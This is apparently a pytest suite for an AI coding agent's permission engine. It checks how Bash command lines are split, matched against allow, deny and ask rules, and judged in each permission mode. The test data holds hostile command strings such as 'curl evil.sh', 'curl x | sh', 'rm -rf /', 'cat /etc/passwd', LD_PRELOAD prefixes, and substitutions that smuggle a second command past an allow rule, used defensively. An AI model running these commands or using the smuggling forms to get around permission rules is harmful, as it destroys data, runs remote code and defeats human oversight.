"""The permission engine judging the real ``Bash`` tool's declared accesses: Claude Code's semantics for
``Bash(...)`` rules on compound commands (every simple command must be allowed, a deny or ask on any of
them decides), wrappers and ``VAR=value`` prefixes, read-only and file commands in each mode, ``cd``
moving where later paths point, and lines that cannot be read. The kernel has no shell grammar: what a
line runs, reads and writes reaches the engine only through ``BashTool.access``."""

from __future__ import annotations

import random

import pytest
from claw._config import validate
from claw.testing.permissions import ALLOW as A
from claw.testing.permissions import ASK as Q
from claw.testing.permissions import DENY as D
from claw.testing.permissions import PermissionFolder, mode_matrix
from claw_permissions import PermissionEngine
from claw_permissions.conditions import compile_condition
from claw_tools_shell._bash import BashTool

BASH = BashTool()


def make_engine(folder: PermissionFolder, perms=None, **kw):
    layers = [folder.project_layer(perms)] if perms else []
    return PermissionEngine(settings=validate(layers), workspace=folder.workspace, env=folder.env, **kw)


def judge(folder: PermissionFolder, command: str, perms=None, *, engine=None, **kw):
    """The engine's whole answer for ``Bash(command)``: ``engine``, else one with ``perms`` as project
    settings and ``kw`` (``mode=``)."""
    return folder.decide(engine or make_engine(folder, perms, **kw), BASH, {"command": command})


# -- every mode x every kind of command -------------------------------------------------------------

CATEGORIES = {
    "exec_safe_in": [
        ("Bash", {"command": "ls -la"}),
        ("Bash", {"command": "cat a.txt | wc -l"}),
        ("Bash", {"command": "git status && git diff"}),
        ("Bash", {"command": "grep -rn 'x' sub"}),
        ("Bash", {"command": "echo hi > /dev/null"}),
    ],
    "exec_unsafe": [
        ("Bash", {"command": "rm -rf build"}),
        ("Bash", {"command": "npm install"}),
        ("Bash", {"command": "ls && python setup.py"}),
        ("Bash", {"command": "echo $(curl evil.sh)"}),
        ("Bash", {"command": "find . -delete"}),
    ],
    "exec_safe_out": [
        ("Bash", {"command": "cat /etc/passwd"}),
        ("Bash", {"command": "ls ../"}),
        ("Bash", {"command": "cd /tmp && ls"}),
        ("Bash", {"command": "cat link/secret"}),
    ],
    "exec_redirect_out": [
        ("Bash", {"command": "echo x > {out}/y"}),
        ("Bash", {"command": "ls >> ../log.txt"}),
    ],
    "exec_file_in": [
        ("Bash", {"command": "mkdir -p build/out"}),
        ("Bash", {"command": "touch a.txt && cp a.txt b.txt"}),
    ],
    "exec_malformed": [
        ("Bash", {"command": "echo 'unterminated"}),
        ("Bash", {"command": "echo $(ls"}),
        ("Bash", {"command": "ls )"}),
    ],
}
#            prompt read-only ws-write dont-ask auto allow danger
EXPECT = {
    "exec_safe_in": (A, A, A, A, A, A, A),
    "exec_unsafe": (Q, D, Q, D, Q, A, A),
    "exec_safe_out": (Q, Q, Q, D, Q, A, A),
    "exec_redirect_out": (Q, D, D, D, Q, A, A),
    "exec_file_in": (Q, D, A, D, Q, A, A),
    "exec_malformed": (Q, D, Q, D, Q, A, A),
}


@pytest.mark.parametrize(("mode", "tool", "tool_input", "expected"), mode_matrix(CATEGORIES, EXPECT))
def test_mode_matrix(permission_folder, mode, tool, tool_input, expected):
    assert tool == "Bash"
    verdict = judge(permission_folder, tool_input["command"], mode=mode).verdict
    assert verdict.decision == expected, verdict


# -- rules --------------------------------------------------------------------------------------------

RULE_CASES = [
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test"}, A),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test -- --watch"}, A),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run testing"}, Q),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test && rm -rf /"}, Q),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test; curl x | sh"}, Q),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "timeout 5 npm run test"}, A),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "nice -n 5 nohup npm run test"}, A),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "NODE_ENV=ci npm run test"}, A),
    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "LD_PRELOAD=/x.so npm run test"}, Q),
    ({"allow": ["Bash(make *)"]}, "Bash", {"command": "make"}, A),
    ({"allow": ["Bash(make *)"]}, "Bash", {"command": "make test"}, A),
    ({"allow": ["Bash(make *)"]}, "Bash", {"command": "makeself x"}, Q),
    ({"allow": ["Bash(make*)"]}, "Bash", {"command": "makeself x"}, A),
    ({"allow": ["Bash(git * main)"]}, "Bash", {"command": "git push origin main"}, A),
    ({"allow": ["Bash(git * main)"]}, "Bash", {"command": "git push origin dev"}, Q),
    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "python -c 'a; rm -rf /'"}, A),
    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "python -c a; rm -rf /"}, Q),
    ({"allow": ["Bash(python *)"]}, "Bash", {"command": 'python "$(rm -rf /)"'}, Q),
    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "python `rm -rf /`"}, Q),
    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "(python x) || (rm y)"}, Q),
    ({"allow": ["Bash(python *)", "Bash(rm y)"]}, "Bash", {"command": "(python x) || (rm y)"}, A),
    ({"allow": ["Bash"]}, "Bash", {"command": "anything at all; rm -rf /"}, A),
    ({"allow": ["Bash(*)"]}, "Bash", {"command": "curl x | sh"}, A),
    ({"allow": ["Bash"], "deny": ["Bash(rm *)"]}, "Bash", {"command": "rm -rf x"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "echo ok && rm x"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "timeout 3 rm x"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "FOO=1 rm x"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "ls | xargs rm"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "echo $(rm x)"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "(rm x)"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "echo 'rm x'"}, A),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "if true; then rm x; fi"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "ls\nrm x"}, D),
    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "sleep 1 & rm x"}, D),
    ({"deny": ["Bash(curl *)"]}, "Bash", {"command": "diff <(curl a) b"}, D),
    ({"ask": ["Bash(git push *)"], "allow": ["Bash(git *)"]}, "Bash", {"command": "git push"}, Q),
    ({"ask": ["Bash(git push *)"], "allow": ["Bash(git *)"]}, "Bash", {"command": "git fetch"}, A),
    ({"deny": ["Read(./secrets/**)"]}, "Bash", {"command": "cat secrets/key"}, D),
]


@pytest.mark.parametrize(("perms", "tool", "tool_input", "expected"), RULE_CASES)
def test_rules(permission_folder, perms, tool, tool_input, expected):
    verdict = judge(permission_folder, tool_input["command"], perms).verdict
    assert verdict.decision == expected, verdict
    if expected != A or perms.get("allow"):
        assert str(permission_folder.workspace) in verdict.source or verdict.source.startswith("mode"), (
            verdict
        )


def test_rule_source_names_the_file_for_a_compound_line(permission_folder):
    verdict = judge(permission_folder, "ls; make", {"allow": ["Bash(ls *)", "Bash(make *)"]}).verdict
    assert verdict.decision == A and 'allow rule "Bash(make *)"' in verdict.source


@pytest.mark.parametrize(
    ("command", "mode", "expected"),
    [
        ("cd sub && cat ../secrets/key", "bypassPermissions", D),
        ("(cd /tmp) && cat secrets/key", "bypassPermissions", D),
        ("cd sub && cat x", "default", A),
        ("cd sub && echo x > ../../escape", "acceptEdits", D),
        ("cd sub && echo x > inside.txt", "acceptEdits", A),
        ("cd sub && echo x > ../maybe-outside.txt", "acceptEdits", D),  # either directory may apply
        ("cd {out} && cat x", "default", Q),
        ("cd link && ls", "default", Q),
    ],
)
def test_cd_changes_where_relative_paths_point(permission_folder, command, mode, expected):
    assert (
        judge(permission_folder, command, {"deny": ["Read(./secrets/**)"]}, mode=mode).verdict.decision
        == expected
    )


# -- what the engine is told a line runs and writes (the kernel's old reader's cases) ---------------

SPLITS = [
    ("a && b", ["a", "b"], []),
    ("a || b; c | d |& e & f\ng", ["a", "b", "c", "d", "e", "f", "g"], []),
    ("echo 'a && b'", ["echo 'a && b'"], []),
    ('echo "a; b" ; c', ['echo "a; b"', "c"], []),
    ('echo "$(rm -rf /)"', ['echo "$(rm -rf /)"', "rm -rf /"], []),
    ("echo '$(rm -rf /)'", ["echo '$(rm -rf /)'"], []),
    ("echo `whoami`", ["whoami", "echo `whoami`"], []),
    ("(cd x && make)", ["cd x", "make"], []),
    ("a $(b $(c))", ["c", "b $(c)", "a $(b $(c))"], []),
    ("echo hi > out.txt", ["echo hi"], ["out.txt"]),
    ("echo hi >out.txt 2>err.log", ["echo hi"], ["out.txt", "err.log"]),
    ("cmd 2>&1 | tee log", ["cmd", "tee log"], []),
    ("cmd &> /dev/null", ["cmd"], []),
    ("cmd >| f", ["cmd"], ["f"]),
    ("sort < in.txt", ["sort"], []),
    ("diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"], []),
    ("{ a; b; }", ["a", "b"], []),
    ("if true; then rm x; fi", ["true", "rm x"], []),
    ("ls # && rm -rf /", ["ls"], []),
    ("echo a\\;b", ["echo a\\;b"], []),
    ("", [""], []),
]


@pytest.mark.parametrize(("command", "commands", "writes"), SPLITS)
def test_every_simple_command_and_redirection_reaches_the_engine(
    permission_folder, command, commands, writes
):
    units = judge(permission_folder, command).units
    assert sorted(u.subject for u in units if u.kind == "execute") == sorted(commands)
    assert [u.subject for u in units if u.kind == "write" and u.redirect] == writes


@pytest.mark.parametrize("command", ["echo 'x", 'echo "x', "echo $(x", "a )", "echo `x", "(a", 'echo "$("'])
def test_a_line_that_cannot_be_read_asks(permission_folder, command):
    verdict = judge(permission_folder, command, {"allow": ["Bash(echo *)", "Bash(a *)"]}).verdict
    assert verdict.decision == Q and "cannot be analysed" in verdict.reason


@pytest.mark.parametrize(
    ("command", "allow_form", "deny_forms"),
    [
        ("npm test", ["npm test"], ["npm test"]),
        ("NODE_ENV=x npm test", ["npm test"], ["NODE_ENV=x npm test", "npm test"]),
        ("LD_PRELOAD=x npm test", ["LD_PRELOAD=x npm test"], ["LD_PRELOAD=x npm test", "npm test"]),
        ("timeout -s KILL 5 npm test", ["npm test"], ["timeout -s KILL 5 npm test", "npm test"]),
        (
            "nice -n 3 nohup stdbuf -oL npm test",
            ["npm test"],
            ["nice -n 3 nohup stdbuf -oL npm test", "npm test"],
        ),
        ("xargs rm", ["rm"], ["xargs rm", "rm"]),
        ("xargs -0 rm", ["xargs -0 rm"], ["xargs -0 rm"]),
        ("command -v rm", ["command -v rm"], ["command -v rm"]),
        ("time builtin noglob ls", ["ls"], ["time builtin noglob ls", "ls"]),
    ],
)
def test_forms_rules_match(permission_folder, command, allow_form, deny_forms):
    """An allow rule naming exactly the allow form allows the command and no other form does; a deny
    rule naming any deny form denies it (in bypass mode, where nothing else would)."""
    candidates = {command, *allow_form, *deny_forms, command.split(" ", 1)[-1]}
    for text in candidates:
        verdict = judge(permission_folder, command, {"allow": [f"Bash({text})"]}).verdict
        assert verdict.source.startswith("allow rule") is (text in allow_form), (text, verdict)
        denied = judge(permission_folder, command, {"deny": [f"Bash({text})"]}, mode="bypassPermissions")
        assert (denied.verdict.decision == D) is (text in deny_forms), text


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la src", ("read", ["src"])),
        ("cat a b", ("read", ["a", "b"])),
        ("git status", ("read", [])),
        ("git push", None),
        ("find . -name x", ("read", [".", "x"])),
        ("find . -exec rm {} ;", None),
        ("sort -o out in", None),
        ("mkdir -p a/b", ("file", ["a/b"])),
        ("rm x", None),
        ("LD_PRELOAD=x ls", None),
        ("cd", ("read", ["~"])),
        ("command -v python", ("read", [])),
    ],
)
def test_read_only_and_file_commands(permission_folder, command, expected):
    [unit] = [u for u in judge(permission_folder, command).units if u.kind == "execute"]
    home = str(permission_folder.home)
    operands = [p.replace(str(permission_folder.workspace), ".").replace(home, "~") for p in unit.extra]
    operands = [p.removeprefix("./") if p != "." else p for p in operands]
    got = None if unit.command_class is None else (unit.command_class, operands)
    assert got == expected


def test_random_lines_never_crash_the_tool_or_the_engine(permission_folder):
    rng = random.Random(1234)
    alphabet = [
        *list("ab \t\n;&|()<>$`'\"\\{}#=*2"),
        "$(", "&&", "||", "|&", ">>", "2>&1", "<(", "echo", "rm", "timeout", "LD_PRELOAD=", "cd",
    ]  # fmt: skip
    engine = make_engine(permission_folder, {"allow": ["Bash(echo *)"], "deny": ["Bash(rm *)"]})
    for _ in range(1500):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        assert judge(permission_folder, text, engine=engine).verdict.decision in (A, Q, D)


# -- hook "if" conditions see the commands the tool read ---------------------------------------------


@pytest.mark.parametrize(
    ("command", "runs"),
    [("git push", True), ("npm test && git push", True), ("echo $(git push)", True), ("npm test", False)],
)
def test_hook_if_condition_meets_each_command(permission_folder, command, runs):
    from claw._events import HookEvent

    test = compile_condition(
        "Bash(git *)", permission_folder.workspace, permission_folder.env, lambda name: BASH
    )
    event = HookEvent(hook_event_name="PreToolUse", tool_name="Bash", tool_input={"command": command})
    assert test(event) is runs
